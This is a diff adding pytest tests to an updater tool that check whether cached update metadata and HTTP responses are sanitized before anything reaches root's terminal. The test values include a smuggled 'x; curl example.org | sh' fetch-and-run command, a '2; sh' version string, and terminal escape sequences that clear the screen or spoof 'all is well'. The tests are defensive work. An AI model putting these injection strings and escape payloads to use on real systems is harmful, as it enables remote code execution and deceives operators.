@@ -2,6 +2,7 @@
 
 import json
 import os
+import socket
 import threading
 from collections.abc import Iterator
 from functools import partial
@@ -132,6 +133,48 @@ def test_a_source_that_can_be_none_is_named(wall: Machine, text: str, why: str) 
     wall.layout.updates.write_text(text)
     with pytest.raises(InstallError, match=why):
         look(wall.layout)
+
+
+HELD = {"looked": 1, "source": "/media/usb", "error": "", "version": "2.0.0", "released": "", "notes": "", "bundle": ""}
+
+
+def test_who_has_taken_over_the_process_that_looks_types_nothing_on_root_s_terminal(wall: Machine) -> None:
+    named(wall, "/media/usb")
+    latest = wall.layout.latest
+    latest.parent.mkdir(parents=True)
+    latest.write_text(json.dumps(HELD | {"bundle": "x; curl example.org | sh"}))
+    assert told(wall.layout, wall).endswith("then: sudo hingewall update hingewall-2.0.0.bundle")
+    for error, heard in (
+        ("\x1b[2J\x9bAall is well", "^\\[2JAall is well$"),
+        ({}, "left no answer"),
+        (1, "left no answer"),
+    ):
+        latest.write_text(json.dumps(HELD | {"error": error} | ({} if error else {"version": "2; sh"})))
+        with pytest.raises(InstallError, match=heard):
+            told(wall.layout, wall)
+    latest.unlink()
+    os.mkfifo(latest)  # which nobody ever writes to
+    with pytest.raises(InstallError, match="left no answer"):
+        told(wall.layout, wall)
+
+
+def test_a_source_s_own_words_move_no_cursor(wall: Machine) -> None:
+    """By plain http anybody on the way may answer, and needs no key for a refusal."""
+    answer = b"HTTP/1.1 404 \x1b[2J\x1b]0;all is well\x07\r\nContent-Length: 0\r\n\r\n"
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def refuse() -> None:
+            peer, _ = server.accept()
+            with peer:
+                peer.recv(4096)
+                peer.sendall(answer)
+
+        threading.Thread(target=refuse, daemon=True).start()
+        named(wall, f"http://127.0.0.1:{server.getsockname()[1]}")
+        assert "404" in str(kept(wall)["error"])
+    with pytest.raises(InstallError, match="404") as said:
+        told(wall.layout, wall)
+    assert str(said.value).isprintable()
 
 
 def test_only_root_has_it_looked_for_now(wall: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
